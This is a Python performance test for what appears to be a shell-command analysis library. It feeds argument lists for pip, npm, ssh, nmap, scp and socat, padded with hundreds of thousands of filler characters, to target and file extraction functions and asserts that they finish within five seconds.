def test_long_arguments_stay_fast() -> None:
    big = "a" * 200_000
    lines = [
        ["pip", "install", big],
        ["npm", "i", big],
        ["ssh", "-o", "A=" + " " * 100_000 + "b", "h"],
        ["nmap", "1," * 50_000 + "x"],
        ["scp", "a@" * 50_000 + ":x", "."],
        ["socat", "TCP:" + ":" * 100_000],
    ]
    start = time.perf_counter()
    for argv in lines:
        command = Command(argv=argv, program=argv[0], path=argv[0])
        targets_of(command)
        files_of(command, "/w")
    assert time.perf_counter() - start < 5
